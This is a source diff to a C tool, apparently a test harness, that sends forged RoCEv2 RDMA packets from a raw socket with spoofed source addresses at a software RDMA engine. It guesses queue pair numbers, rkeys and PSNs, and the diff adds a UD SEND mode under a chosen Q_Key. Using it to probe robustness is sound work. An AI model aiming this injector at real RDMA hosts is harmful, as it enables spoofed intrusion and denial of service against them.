@@ -4,8 +4,10 @@
  * RDMA WRITE Only packets with valid ICRCs (built by the wire codec) from a
  * raw IPv4 socket, so the source address can be anyone's, at a soft engine:
  *
- *   inject SRC DST QPN SECONDS PPS
+ *   inject SRC DST QPN SECONDS PPS [ud QKEY BYTES]
  *
+ * With "ud": UD SEND Onlys of BYTES bytes of 0x66 under Q_Key QKEY (from a
+ * guessed source QP) instead, which a UD QP takes from anyone.
  * QPN: the destination QP (a number, or "random" for a fresh guess per
  * packet); the rkey, the PSN and the address are guessed per packet.  It
  * prints one line, "sent N", and exits 0; 2 on bad arguments, 3 when the
@@ -43,7 +45,10 @@ static uint64_t next(uint64_t *s)
 int main(int argc, char **argv)
 {
 	struct sockaddr_in dst = { .sin_family = AF_INET };
-	uint8_t frame[2048], payload[64];
+	uint8_t frame[8192], payload[4096];
+	size_t payload_len = 64;
+	bool ud = false;
+	unsigned long qkey = 0;
 	struct in_addr src;
 	uint64_t seed = (uint64_t)now_ns() | 1, end, start, sent = 0;
 	double seconds, pps;
@@ -51,10 +56,16 @@ int main(int argc, char **argv)
 	unsigned long qpn = 0;
 	int fd, one = 1;
 
-	if (argc != 6 || inet_pton(AF_INET, argv[1], &src) != 1 ||
+	if (argc == 9 && !strcmp(argv[6], "ud")) {
+		ud = true;
+		qkey = strtoul(argv[7], NULL, 0);
+		payload_len = strtoul(argv[8], NULL, 0);
+	}
+	if ((argc != 6 && !ud) || inet_pton(AF_INET, argv[1], &src) != 1 ||
 	    inet_pton(AF_INET, argv[2], &dst.sin_addr) != 1 ||
-	    (seconds = atof(argv[4])) <= 0 || (pps = atof(argv[5])) <= 0) {
-		fprintf(stderr, "usage: inject SRC DST QPN|random SECONDS PPS\n");
+	    (seconds = atof(argv[4])) <= 0 || (pps = atof(argv[5])) <= 0 ||
+	    payload_len > sizeof(payload)) {
+		fprintf(stderr, "usage: inject SRC DST QPN|random SECONDS PPS [ud QKEY BYTES]\n");
 		return 2;
 	}
 	random_qpn = !strcmp(argv[3], "random");
@@ -86,15 +97,20 @@ int main(int argc, char **argv)
 		memcpy(p.ip4.dst, &dst.sin_addr, 4);
 		p.udp.sport = (uint16_t)(49152 + (next(&seed) & 0x3FFF));
 		p.udp.dport = ROCEV2_UDP_PORT;
-		p.bth.opcode = OP_RC_WRITE_ONLY;
+		p.bth.opcode = ud ? OP_UD_SEND_ONLY : OP_RC_WRITE_ONLY;
 		p.bth.pkey = WIRE_DEFAULT_PKEY;
 		p.bth.dqpn = random_qpn ? (uint32_t)(next(&seed) & WIRE_PSN_MASK) : (uint32_t)qpn;
 		p.bth.psn = (uint32_t)(next(&seed) & WIRE_PSN_MASK);
-		p.bth.ackreq = true;
-		p.reth.va = next(&seed) & 0x00007FFFFFFFF000ULL;
-		p.reth.rkey = (uint32_t)next(&seed);
-		p.reth.dmalen = sizeof(payload);
-		n = wire_build(frame, sizeof(frame), &p, payload, sizeof(payload));
+		p.bth.ackreq = !ud;
+		if (ud) {
+			p.deth.qkey = (uint32_t)qkey;
+			p.deth.srcqp = (uint32_t)(next(&seed) & WIRE_PSN_MASK);
+		} else {
+			p.reth.va = next(&seed) & 0x00007FFFFFFFF000ULL;
+			p.reth.rkey = (uint32_t)next(&seed);
+			p.reth.dmalen = (uint32_t)payload_len;
+		}
+		n = wire_build(frame, sizeof(frame), &p, payload, payload_len);
 		if (n && sendto(fd, frame, n, 0, (struct sockaddr *)&dst, sizeof(dst)) == (ssize_t)n)
 			sent++;
 		else if (n)
